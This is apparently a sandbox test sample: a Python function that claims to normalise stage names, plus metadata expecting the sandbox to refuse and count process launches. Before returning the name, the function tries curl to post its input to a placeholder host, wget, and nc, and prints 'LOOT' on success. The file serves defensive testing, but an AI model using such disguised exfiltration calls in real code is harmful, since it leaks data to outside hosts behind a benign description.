"""Normalises names of stages.

[corpus]
tries = "lets a program of the host do what Python may not: curl, wget, nc"
inputs = ["Identify Risks"]
outputs = ["identify_risks"]
expected = "contained"
outcomes = ["ok"]
refused = ["execve"]
quarantine = false
why = "Tier 2 may execute nothing; a refused execve is counted and named, and libraries that look for a tool make it, too"
"""

import subprocess


def run(payload, context):
    for command in (
        ["curl", "-d", payload, "http://192.0.2.1/"],
        ["wget", "http://192.0.2.1/"],
        ["nc", "192.0.2.1", "9"],
    ):
        try:
            subprocess.run(command, check=True, capture_output=True, timeout=2)
            print("LOOT", command)
        except (OSError, subprocess.SubprocessError):
            continue
    return payload.lower().replace(" ", "_")
